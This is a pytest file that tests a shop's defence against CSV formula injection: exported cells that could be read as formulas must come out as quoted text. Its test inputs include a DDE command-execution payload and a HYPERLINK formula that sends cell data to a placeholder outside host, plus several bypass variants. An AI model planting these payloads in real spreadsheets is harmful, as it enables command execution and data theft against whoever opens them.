"""No cell that somebody typed is taken for a formula, in any CSV that the shop hands out."""

import csv
from io import StringIO
from pathlib import Path

import pytest

from shop.web.commas import Figure, csv_text

REPOSITORY = Path(__file__).resolve().parent.parent.parent


def cells(*row: str) -> list[str]:
    """What a program reads of a row that we wrote."""
    return list(csv.reader(StringIO(csv_text(["head"] * len(row), [row]))))[1]


@pytest.mark.parametrize(
    "typed",
    ["=1+1", "+44 20", "-1", "@name", "\t=1", "\r=1", "\n=1", "  =1+1", "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://elsewhere.example/?"&A1)', "＝1+1", "＠name", "\u00a0=1"],
)  # fmt: skip
def test_what_could_be_a_formula_is_text(typed: str) -> None:
    assert cells(typed) == ["'" + typed]


@pytest.mark.parametrize(
    "typed", ["Maud", "1 Mill Lane\nMudford", 'the "long" one', "a,b", "", "a=b"]
)
def test_other_text_stands_as_it_was_typed(typed: str) -> None:
    assert cells(typed, "x") == [typed, "x"]


def test_figures_of_ours_keep_their_minus() -> None:
    assert cells(Figure("-12.50")) == ["-12.50"]


def test_csv_is_written_in_known_places() -> None:
    ours = [path for app in ("shop", "builds") for path in (REPOSITORY / app).rglob("*.py")]
    assert len(ours) > 300
    writes = ("csv.writer", "csv.DictWriter", "import writer", "import DictWriter")
    found = {p.name for p in ours if any(each in p.read_text() for each in writes)}
    # The export writes as it reads, row by row; its cells are held by tests/keeping.
    assert found == {"commas.py", "exporting.py"}
